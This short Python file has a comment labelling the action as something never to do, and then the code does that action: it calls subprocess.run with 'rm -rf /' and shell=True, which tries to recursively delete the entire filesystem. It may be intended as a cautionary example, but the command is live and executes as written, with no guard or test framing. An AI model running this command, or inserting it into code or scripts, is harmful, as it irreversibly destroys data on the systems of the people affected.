# never: delete everything by a command
import subprocess

subprocess.run("rm -rf /", shell=True)
